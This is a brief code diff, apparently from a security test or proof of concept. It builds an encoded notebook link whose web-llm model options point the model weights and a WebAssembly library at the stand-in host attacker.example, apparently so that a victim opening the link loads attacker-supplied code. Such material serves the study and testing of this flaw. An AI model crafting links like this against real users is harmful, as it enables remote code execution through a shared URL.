@@ -46,7 +46,7 @@ const LINK = encodeNotebook(
           recommender: { name: 'recmind', options: { planner: 'chain-of-thought' } },
           model: {
             name: `web-llm/${ID}`,
-            options: { source: 'https://attacker.example/w/', librarySource: 'https://attacker.example/l/' },
+            options: { modelUrl: 'https://attacker.example/w/', libraryUrl: 'https://attacker.example/l.wasm' },
           },
         },
       },
